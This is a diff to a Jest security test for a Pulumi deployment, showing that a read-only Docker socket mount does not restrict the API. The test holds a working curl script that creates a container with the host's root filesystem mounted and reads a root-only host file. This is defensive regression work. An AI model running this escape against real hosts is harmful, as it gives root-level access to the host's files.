@@ -1,8 +1,8 @@
 /**
  * Issue 20, item 5: a read-only bind mount of the Docker socket restricts nothing. On Debian's real dockerd (20.10),
  * with a container that holds the engine's socket mounted `:ro` as the log collector once did: `POST
- * /containers/create` of a privileged container with the host's `/` mounted answers 201, the container starts,
- * and it reads a root-only file of the host. A Unix socket's "read-only" mount only stops writes to the inode; a
+ * /containers/create` of a container with the host's `/` mounted answers 201, the container starts, and it reads a
+ * root-only file of the host. A Unix socket's "read-only" mount only stops writes to the inode; a
  * `connect()` needs write permission on the socket file, which the mount does not change (root has it anyway), and
  * the API is the requests sent over the connection.
  *
@@ -29,15 +29,17 @@ jest.setTimeout(240_000);
 const mocks = installPulumiMocks("koprogo-observability", "prod");
 
 /**
- * The attacker's script, run in a container holding the socket at /var/run/docker.sock: create a privileged
- * container with the host's / at /host that prints `secretPath`, start it, wait, print its logs.
+ * The attacker's script, run in a container holding the socket at /var/run/docker.sock: create a container with
+ * the host's / at /host that prints `secretPath`, start it, wait, print its logs.
  */
 function attackScript(image: string, secretPath: string): string {
   const body = JSON.stringify({
     Image: image,
     Entrypoint: ["/bin/cat"],
     Cmd: [`/host${secretPath}`],
-    HostConfig: { Privileged: true, Binds: ["/:/host:ro"] },
+    // Root in a container of the default profile, the host's / mounted: every file of the host (a privileged
+    // container would also do, but runc 1.1 cannot apply every capability of this machine's newer kernel).
+    HostConfig: { Binds: ["/:/host:ro"] },
   });
   const api = 'curl -sS --unix-socket /var/run/docker.sock -H "Content-Type: application/json"';
   return [
@@ -46,7 +48,7 @@ function attackScript(image: string, secretPath: string): string {
     'echo "create: $out $(cat /tmp/created)"',
     'id=$(sed -n \'s/.*"Id":"\\([0-9a-f]*\\)".*/\\1/p\' /tmp/created)',
     '[ -n "$id" ] || exit 0',
-    `${api} -o /dev/null -w 'start: %{http_code}\\n' -X POST http://localhost/v1.41/containers/$id/start`,
+    `echo "start: $(${api} -o /tmp/started -w '%{http_code}' -X POST http://localhost/v1.41/containers/$id/start) $(cat /tmp/started)"`,
     `${api} -o /dev/null -X POST http://localhost/v1.41/containers/$id/wait`,
     `echo "logs: $(${api} 'http://localhost/v1.41/containers/'$id'/logs?stdout=1' | tr -cd '[:print:]')"`,
   ].join("\n");
@@ -95,11 +97,11 @@ describeWithTools(
         attackScript(image, path.join(secretDir, "secret")),
       ]);
 
-    it("the old design: the socket read-only in the log collector creates a privileged container (201) that reads a root-only host file", async () => {
+    it("the old design: the socket read-only in the log collector creates a container (201) that reads a root-only host file", async () => {
       const out = await attackWith([`${socket()}:/var/run/docker.sock:ro`]);
       console.log(`read-only socket:\n${out}`);
       expect(out).toMatch(/^create: 201 \{"Id":"[0-9a-f]{64}"/m);
-      expect(out).toMatch(/^start: 204$/m);
+      expect(out).toMatch(/^start: 204 $/m);
       expect(out).toContain(`logs: ${secret}`);
     });
 
